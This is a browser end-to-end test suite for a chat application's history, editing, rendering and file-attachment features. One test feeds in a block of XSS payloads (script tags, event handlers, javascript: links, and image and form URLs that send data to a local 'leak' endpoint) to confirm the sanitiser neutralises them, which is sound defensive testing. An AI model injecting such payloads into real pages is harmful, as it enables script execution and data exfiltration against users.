import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { words } from '../../src/app/strings.ts';
import { exportChats } from '../../src/peer/stored-chat.ts';
import { type ProviderServer, rightKey, startProviderServer } from '../cloud/provider-server.ts';
import { ask, type Tab, World } from '../e2e/world.ts';
import { faults, faultsInAllLooks, overflowing } from './faults.ts';
import { keepKey } from './keep-key.ts';

const question = 'What is a pod?';
const other = 'Who can read my text?';
/** The chunk with libp2p in it, which main.ts imports after the first frame. */
const peerCode = /\/assets\/browser-[^/]*\.js$/;
let world: World;
let providers: ProviderServer;

beforeAll(async () => {
  providers = await startProviderServer();
  world = await World.start();
});
afterAll(async () => {
  await world?.stop();
  await providers?.close();
});

const articles = ({ page }: Tab) => page.getByRole('article');
const text = (tab: Tab, index: number) => articles(tab).nth(index).locator('[data-answer]');
const button = ({ page }: Tab, name: string) => page.getByRole('button', { name, exact: true });
const whole = (tab: Tab, index: number) =>
  articles(tab).nth(index).getByText('tokens/s').waitFor({ timeout: 60_000 });
const entries = ({ page }: Tab) =>
  page.getByRole('dialog').getByRole('list', { name: words.history.title }).getByRole('listitem');

/** A chat file with one answer, as Export writes it. */
const chatFile = (answer: string) => ({
  name: 'chats.json',
  mimeType: 'application/json',
  buffer: Buffer.from(
    exportChats([
      {
        id: 'imported',
        title: 'Imported',
        createdAt: 1,
        updatedAt: 1,
        system: '',
        exchanges: [
          {
            id: 'one',
            question: 'Show me',
            answer,
            model: 'guide',
            phase: 'done',
            layers: 6,
            interruptions: [],
          },
        ],
      },
    ]),
  ),
});

async function importChat(tab: Tab, answer: string): Promise<void> {
  await button(tab, words.chat.chats).click();
  await tab.page.locator('input[type=file][accept*=json]').setInputFiles(chatFile(answer));
  await tab.page.getByText(words.history.imported(1)).waitFor();
  await entries(tab).filter({ hasText: 'Imported' }).getByRole('button').first().click();
}

test('a question is edited, both versions stay, and a reload finds chat and draft', async () => {
  const tab = await world.openTab('editor', '', { permissions: ['clipboard-read', 'clipboard-write'] });
  // Before anything is sent: who could read it.
  const line = tab.page.getByText(/Runs (in this tab|(here and )?on 1 peer of “This machine”)\./);
  await line.waitFor();
  // Not less than what the peers of a pod can learn.
  if (/on 1 peer/.test(await line.innerText())) await line.getByText(/may guess parts of it/).waitFor();
  await ask(tab, question);
  await whole(tab, 0);
  const first = await text(tab, 0).innerText();
  await articles(tab).first().getByRole('button', { name: words.copy, exact: true }).click();
  expect(await tab.page.evaluate(() => navigator.clipboard.readText())).toBe(first);
  await ask(tab, other);
  await whole(tab, 1);

  await button(tab, words.chat.edit).first().click();
  const box = tab.page.getByRole('textbox', { name: words.chat.editLabel });
  expect(await box.inputValue()).toBe(question);
  await tab.page.keyboard.press('Escape');
  await button(tab, words.chat.edit).first().click();
  await box.fill('What do I need to join?');
  await tab.page.keyboard.press('Enter');
  await whole(tab, 0);
  expect(await articles(tab).count()).toBe(1);
  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor();
  await button(tab, words.chat.previousBranch).click();
  await expect.poll(() => articles(tab).count()).toBe(2);
  expect(await text(tab, 0).innerText()).toBe(first);

  await tab.page.getByRole('textbox', { name: 'Message' }).fill('half a thou');
  await tab.page.reload();
  await expect.poll(() => articles(tab).count(), { timeout: 30_000 }).toBe(2);
  expect(await text(tab, 0).innerText()).toBe(first);
  expect(await tab.page.getByRole('textbox', { name: 'Message' }).inputValue()).toBe('half a thou');
  await articles(tab).first().getByText(words.chat.branch(1, 2)).waitFor();
  expect(tab.errors).toEqual([]);
  await tab.context.close();
});

test('an answer that a reload cuts off keeps its text', async () => {
  const tab = await world.openTab('reloader');
  await ask(tab, question);
  await text(tab, 0).waitFor();
  await tab.page.reload();
  await articles(tab).getByText(words.chat.stopped).or(articles(tab).getByText('tokens/s')).waitFor();
  await tab.page.getByText(question, { exact: true }).waitFor();
  await tab.context.close();
});

test('chats are searched, deleted, brought back, exported and imported', async () => {
  const tab = await world.openTab('keeper');
  await ask(tab, question);
  await whole(tab, 0);
  await button(tab, words.chat.newChat).click();
  await ask(tab, other);
  await whole(tab, 0);
  await tab.page.keyboard.press('Control+k');
  await expect.poll(() => entries(tab).count()).toBe(2);
  const search = tab.page.getByRole('searchbox', { name: words.history.search });
  await search.fill('READ my');
  await expect.poll(() => entries(tab).count()).toBe(1);
  await search.fill('nothing like it');
  await tab.page.getByText(words.history.noMatch('nothing like it')).waitFor();
  await search.fill('');
  expect(await faultsInAllLooks(tab)).toEqual([]);

  const download = tab.page.waitForEvent('download');
  await button(tab, words.history.export).click();
  const saved = await (await download).path();
  await button(tab, words.history.deleteAll).click();
  await button(tab, words.history.deleteAllNow(2)).click();
  await tab.page.getByText(words.history.none).waitFor();
  await button(tab, words.history.undo).click();
  await expect.poll(() => entries(tab).count()).toBe(2);
  await button(tab, words.history.delete(other)).click();
  await expect.poll(() => entries(tab).count()).toBe(1);

  const chooser = tab.page.locator('input[type=file][accept*=json]');
  await chooser.setInputFiles({
    name: 'bad.json',
    mimeType: 'application/json',
    buffer: Buffer.from('{"tabmesh":"chats/1","chats":[{"id":"<script>"}]}'),
  });
  await tab.page.getByRole('alert').getByText('Nothing was changed').waitFor();
  await chooser.setInputFiles({
    name: 'good.json',
    mimeType: 'application/json',
    buffer: await readFile(saved),
  });
  await expect.poll(() => entries(tab).count()).toBe(2);
  await entries(tab).filter({ hasText: question }).getByRole('button').first().click();
  await tab.page.getByText(question, { exact: true }).first().waitFor();
  expect(await articles(tab).count()).toBe(1);
  await tab.page.keyboard.press('Control+Shift+O');
  await expect.poll(() => articles(tab).count()).toBe(0);
  expect(tab.errors).toEqual([]);
  await tab.context.close();
});

/** An answer that has begun and that nobody ends. */
async function askForever(tab: Tab): Promise<void> {
  providers.faults.push({ kind: 'hang', after: 2 });
  const model = tab.page.getByLabel(words.chat.model);
  await model.focus();
  await model.selectOption('house/openai-small');
  const answer = await ask(tab, 'Count.');
  await answer.getByText('One two').waitFor();
}

test('the open chat, chosen once more, answers on, and one that is deleted then does not come back', async () => {
  const tab = await world.openTab('forgetter', '#/settings');
  await keepKey(tab, providers, rightKey);
  await tab.page.getByRole('link', { name: words.rail.chat, exact: true }).click();
  await askForever(tab);
  await button(tab, words.chat.chats).click();
  await entries(tab).getByRole('button', { name: 'Count.' }).first().click();
  await tab.page.getByRole('dialog').waitFor({ state: 'detached' });
  expect(providers.open()).toBe(1);
  expect(await articles(tab).getAttribute('aria-busy')).toBe('true');
  // A screen reader hears now and then that it still goes on, and none of its pieces.
  const told = tab.page.locator('.page > [aria-live="polite"]');
  await expect.poll(() => told.innerText(), { timeout: 30_000 }).toBe(words.chat.stillAnswering(10));

  const isGone = async () => {
    await expect.poll(() => providers.open()).toBe(0);
    await tab.page.getByText(words.history.none).waitFor();
    await tab.page.reload();
    await button(tab, words.chat.chats).click();
    await tab.page.getByText(words.history.none).waitFor();
    await tab.page.keyboard.press('Escape');
  };
  await button(tab, words.chat.chats).click();
  await button(tab, words.history.delete('Count.')).click();
  await isGone();

  await askForever(tab);
  await button(tab, words.chat.chats).click();
  await entries(tab).first().waitFor();
  await button(tab, words.history.deleteAll).click();
  await button(tab, words.history.deleteAllNow(1)).click();
  await isGone();

  const { reset } = words.settings;
  await askForever(tab);
  await tab.page.getByRole('link', { name: words.rail.settings, exact: true }).click();
  await button(tab, reset.what.chats).click();
  await button(tab, reset.now(reset.what.chats)).click();
  await tab.page.getByText(reset.done(reset.what.chats)).waitFor();
  await tab.page.getByRole('link', { name: words.rail.chat, exact: true }).click();
  await button(tab, words.chat.chats).click();
  await isGone();
  await tab.context.close();
});

test('while a chat from before a reload is awaited, the page says so', async () => {
  const tab = await world.openTab('waiter');
  await ask(tab, question);
  await whole(tab, 0);
  const { promise: held, resolve: release } = Promise.withResolvers<void>();
  await tab.context.route(peerCode, async route => {
    await held;
    await route.continue();
  });
  await tab.page.reload();
  await tab.page.getByText(words.chat.restoring).waitFor();
  expect(await tab.page.getByText(words.chat.emptyGuide).count()).toBe(0);
  release();
  await whole(tab, 0);
  expect(await tab.page.getByText(words.chat.restoring).count()).toBe(0);
  await tab.context.close();
});

test('options hold for the chat, and with some temperature an answer is asked for again', async () => {
  const tab = await world.openTab('tuner');
  await ask(tab, question);
  await whole(tab, 0);
  expect(await button(tab, words.chat.regenerate).count()).toBe(0);
  await button(tab, words.chat.options).click();
  await tab.page.getByLabel(words.options.temperature).fill('1.5');
  await tab.page.getByLabel(words.options.system).fill('Be brief.');
  expect(await faults(tab)).toEqual([]);
  await tab.page.keyboard.press('Escape');
  await button(tab, words.chat.regenerate).click();
  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor({ timeout: 60_000 });
  await tab.page.reload();
  await articles(tab).getByText(words.chat.branch(2, 2)).waitFor({ timeout: 30_000 });
  await button(tab, words.chat.options).click();
  expect(await tab.page.getByLabel(words.options.temperature).inputValue()).toBe('1.5');
  expect(await tab.page.getByLabel(words.options.system).inputValue()).toBe('Be brief.');
  await tab.context.close();
});

const formatted = `# A title

Some *words*, \`code\` and a price of $5 and $6.

| layer | peer |
|---|---|
| 1 | ${'Blue-Heron '.repeat(30)} |

\`\`\`js
const answer = 42;
\`\`\`

$$e^{i\\pi} + 1 = 0$$

and \\(x^2\\) in a line.`;

/** As a file manager does it, anywhere on the page; answers whether the page took it. */
const drop = ({ page }: Tab, name: string, text: string) =>
  page.evaluate(
    ([name, text]) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([text!], name!));
      return !dispatchEvent(new DragEvent('drop', { dataTransfer, cancelable: true }));
    },
    [name, text],
  );

test('an answer shows tables, code and formulas, a question takes files, and all fits a phone', async () => {
  const tab = await world.openTab('formatter', '', { permissions: ['clipboard-read', 'clipboard-write'] });
  await importChat(tab, formatted);
  const answer = text(tab, 0);
  await answer.locator('table').waitFor();
  await answer.getByRole('heading', { name: 'A title' }).waitFor();
  await expect.poll(() => answer.locator('math').count()).toBe(2);
  expect(await answer.innerText()).toContain('a price of $5 and $6.');
  await button(tab, words.chat.copyCode).click();
  expect(await tab.page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;\n');

  const { attachments } = words;
  const chips = tab.page.getByRole('list', { name: attachments.list }).getByRole('listitem');
  await tab.page.locator('form input[type=file]').setInputFiles([
    { name: 'notes.md', mimeType: 'text/markdown', buffer: Buffer.from('Kilns are hot.') },
    { name: 'photo.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff]) },
    { name: 'empty.txt', mimeType: 'text/plain', buffer: Buffer.alloc(0) },
  ]);
  for (const reason of [attachments.notText('photo.png'), attachments.empty('empty.txt')])
    await tab.page.getByRole('alert').getByText(reason).waitFor();
  expect(await drop(tab, `${'long-'.repeat(30)}.csv`, 'a,b')).toBe(true);
  await expect.poll(() => chips.count()).toBe(2);
  const meter = tab.page.getByRole('meter', { name: words.chat.contextTitle });
  const used = () => meter.evaluate(element => (element as HTMLMeterElement).value);
  await meter.waitFor();
  const before = await used();
  // About four characters a token.
  await tab.page.getByRole('textbox', { name: 'Message' }).fill('x'.repeat(400));
  await expect.poll(used).toBe(before + 100);
  const context = await meter.evaluate(element => (element as HTMLMeterElement).max);
  await tab.page.getByText(words.chat.contextUsed(before + 100, context)).waitFor();
  expect(await meter.getAttribute('aria-valuetext')).toBe(words.chat.contextTold(before + 100, context));
  expect(await drop(tab, 'model.gguf', 'GGUF')).toBe(true);
  await tab.page.getByRole('alert').getByText(attachments.isModel('model.gguf')).waitFor();
  for (const width of [360, 1440]) {
    await tab.page.setViewportSize({ width, height: 800 });
    for (const colorScheme of ['light', 'dark'] as const) {
      await tab.page.emulateMedia({ colorScheme });
      expect(await tab.page.evaluate(overflowing), `${width}`).toEqual([]);
      expect(await faults(tab), `${width} ${colorScheme}`).toEqual([]);
    }
  }
  await chips.last().getByRole('button').click();
  await ask(tab, question);
  await tab.page
    .getByText(`${question}\n\nnotes.md:\n\`\`\`md\nKilns are hot.\n\`\`\``, { exact: true })
    .waitFor();
  expect(await chips.count()).toBe(0);
  expect(tab.errors).toEqual([]);
  await tab.context.close();
});

test('a language that is written from right to left is shown so', async () => {
  const tab = await world.openTab('reader');
  await importChat(tab, 'الحجرة مجموعة صغيرة من النوافذ.');
  await text(tab, 0).getByText('الحجرة').waitFor();
  const direction = (element: Element) => getComputedStyle(element).direction;
  // Plain text stands there until what draws it has come, and is then replaced.
  await expect.poll(() => text(tab, 0).evaluate(direction)).toBe('rtl');
  const box = tab.page.getByRole('textbox', { name: 'Message' });
  expect(await box.evaluate(direction)).toBe('ltr');
  await box.fill('ما هي الحجرة؟');
  expect(await box.evaluate(direction)).toBe('rtl');
  expect(await tab.page.evaluate(overflowing)).toEqual([]);
  await tab.context.close();
});

const hostile = `<script>window.ran = 1</script>
<img src="x" onerror="window.ran = 2"> <svg onload="window.ran = 3"></svg>
<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>
<style>body { display: none }</style> <form action="https://127.0.0.1:9/leak"><input name="a"></form>

[a link](javascript:window.ran=5) [data](data:text/html,<script>1</script>) ![seen](http://127.0.0.1:9/leak?text=secret)
[spaced](java&#10;script:window.ran=6) <a href="javascript:window.ran=7" onclick="window.ran=8">raw</a>

$\\href{javascript:window.ran=9}{x}$ $\\includegraphics{http://127.0.0.1:9/leak}$ $\\htmlStyle{position:fixed}{x}$

\`\`\`<img src=x onerror=window.ran=10>
</code></pre><script>window.ran = 11</script>
\`\`\``;

test('nothing that an answer holds runs, loads or leads anywhere but to the web', async () => {
  const tab = await world.openTab('target');
  const leaked: string[] = [];
  tab.page.on('request', request => {
    if (request.url().includes('leak')) leaked.push(request.url());
  });
  await importChat(tab, hostile);
  const answer = text(tab, 0);
  await answer.getByText('window.ran = 11').waitFor();
  await answer.getByRole('link', { name: 'seen' }).waitFor();
  const found = await answer.evaluate(element => ({
    ran: (window as unknown as { ran?: number }).ran,
    elements: [
      ...element.querySelectorAll('script, img, svg, iframe, style, form, input, object, embed'),
    ].map(each => each.tagName),
    attributes: [...element.querySelectorAll('*')].flatMap(each =>
      each.getAttributeNames().filter(name => name.startsWith('on') || name === 'style' || name === 'id'),
    ),
    elsewhere: [...element.querySelectorAll('a')]
      .map(link => link.getAttribute('href'))
      .filter(href => href !== null && !href.startsWith('http://127.0.0.1:9/')),
  }));
  expect(found).toEqual({
    ran: undefined,
    elements: [],
    attributes: [],
    elsewhere: [],
  });
  expect(leaked).toEqual([]);
  await tab.context.close();
});

test('what a model thought is folded, opened by keyboard, and no part of the answer', async () => {
  const thought = 'A pod, so a group of peers.\nSay that.';
  const tab = await world.openTab('thinker');
  await importChat(tab, `<think>\n${thought}\n</think>\n\nA **pod** is a group of peers.`);
  const answer = tab.page.getByRole('article').last();
  await expect.poll(() => answer.locator('[data-answer]').innerText()).toBe('A pod is a group of peers.');
  const summary = answer.getByText(words.chat.thought, { exact: true });
  const inside = answer.getByText('Say that.');
  expect(await inside.isVisible()).toBe(false);
  await summary.focus();
  await tab.page.keyboard.press('Enter');
  await inside.waitFor();
  expect(await inside.innerText()).toBe(thought);
  expect(await faultsInAllLooks(tab)).toEqual([]);
  await tab.page.keyboard.press('Enter');
  await inside.waitFor({ state: 'hidden' });
  expect(tab.errors).toEqual([]);
  await tab.context.close();
});

test('files that are dragged over the page are told where they go, and nothing moves', async () => {
  const tab = await world.openTab('dragger');
  const box = tab.page.getByRole('textbox', { name: words.chat.message });
  const before = await box.boundingBox();
  const drag = (kind: string) =>
    tab.page.evaluate(kind => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File(['Notes'], 'notes.txt', { type: 'text/plain' }));
      document.body.dispatchEvent(new DragEvent(kind, { bubbles: true, cancelable: true, dataTransfer }));
    }, kind);
  await drag('dragover');
  const hint = tab.page.getByText(words.attachments.drop);
  await hint.waitFor();
  expect(await box.boundingBox()).toEqual(before);
  expect(await faultsInAllLooks(tab)).toEqual([]);
  await drag('drop');
  await hint.waitFor({ state: 'detached' });
  await tab.page.getByRole('list', { name: words.attachments.list }).getByText('notes.txt').waitFor();
  await tab.context.close();
});
